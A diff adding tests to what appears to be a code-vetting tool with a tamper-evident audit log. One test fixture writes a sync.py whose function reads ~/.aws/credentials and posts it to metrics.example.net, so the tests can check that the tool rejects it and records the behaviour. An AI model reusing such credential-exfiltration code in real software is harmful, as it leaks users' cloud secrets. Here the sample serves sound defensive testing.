@@ -156,8 +156,30 @@ def test_vet_appends_its_decisions_to_the_audit_log(static_workspace):
     )
     assert record["content_sha256"] == hashlib.sha256(COMPLETE.encode()).hexdigest()
     assert any(f["rule"] == "B602" for f in record["findings"])
+    assert record["summary"] is None  # adds nothing its document could not do: shell=True is bandit's
     verified = sandgate("audit", "verify", cwd=static_workspace)
     assert verified.returncode == 0 and verified.stdout.startswith("ok: 1 records verified")
+
+
+def test_the_audit_record_carries_the_capability_summary(static_workspace):
+    """The one line the diagnostic leads with ("adds: …") is in the decision record, and the chain
+    with it verifies; a record whose summary is edited afterwards does not."""
+    (static_workspace / "sync.py").write_text(
+        "import pathlib\nimport requests\n\n\ndef upload():\n"
+        '    data = pathlib.Path("~/.aws/credentials").expanduser().read_text()\n'
+        '    requests.post("https://metrics.example.net/c", data=data, timeout=5)\n'
+    )
+    done = sandgate("vet", "--policy", STATIC_POLICY, "sync.py", cwd=static_workspace)
+    assert done.returncode != 0, done.stdout
+    path = static_workspace / ".sandgate" / "audit.jsonl"
+    record = json.loads(path.read_text().splitlines()[0])
+    assert record["summary"].startswith("adds: "), record["summary"]
+    assert "metrics.example.net" in record["summary"] and "~/.aws/credentials" in record["summary"]
+    verified = sandgate("audit", "verify", cwd=static_workspace)
+    assert verified.returncode == 0 and verified.stdout.startswith("ok: 1 records verified"), verified.stdout
+    edited = {**record, "summary": None}  # re-encoded as the log encodes, hash kept: the edit alone
+    path.write_text(json.dumps(edited, sort_keys=True, separators=(",", ":"), ensure_ascii=True) + "\n")
+    assert sandgate("audit", "verify", cwd=static_workspace).returncode != 0
 
 
 def test_vet_into_document_at_position(static_workspace):
@@ -187,6 +209,18 @@ def test_bad_usage_exits_2(static_workspace):
     assert sandgate("vet", "--policy", STATIC_POLICY, "--at", "3:1", "s.py", cwd=static_workspace).returncode == 2
     bad_at = sandgate("vet", "--policy", STATIC_POLICY, "--into", "s.py", "--at", "zero", "s.py", cwd=static_workspace)
     assert bad_at.returncode == 2 and "--at takes LINE:COL" in bad_at.stderr
+    # A column past the end of its line is an error (not clamped to the line's end); the line's end is not.
+    past_col = sandgate("vet", "--policy", STATIC_POLICY, "--into", "s.py", "--at", "1:7", "s.py", cwd=static_workspace)
+    assert past_col.returncode == 2 and "past the end of line 1 of s.py" in past_col.stderr, past_col.stderr
+    assert "COL is at most 6" in past_col.stderr
+    end_of_line = sandgate(
+        "vet", "--policy", STATIC_POLICY, "--into", "s.py", "--at", "1:6", "s.py", cwd=static_workspace
+    )
+    assert end_of_line.returncode == 0, end_of_line.stderr
+    after_last = sandgate(
+        "vet", "--policy", STATIC_POLICY, "--into", "s.py", "--at", "2:2", "s.py", cwd=static_workspace
+    )
+    assert after_last.returncode == 2 and "past the end of line 2" in after_last.stderr
     missing = sandgate("vet", "--policy", STATIC_POLICY, "absent.py", cwd=static_workspace)
     assert missing.returncode == 2 and "cannot read absent.py" in missing.stderr
     assert sandgate("vet", "--policy", STATIC_POLICY, "--format", "xml", "s.py", cwd=static_workspace).returncode == 2
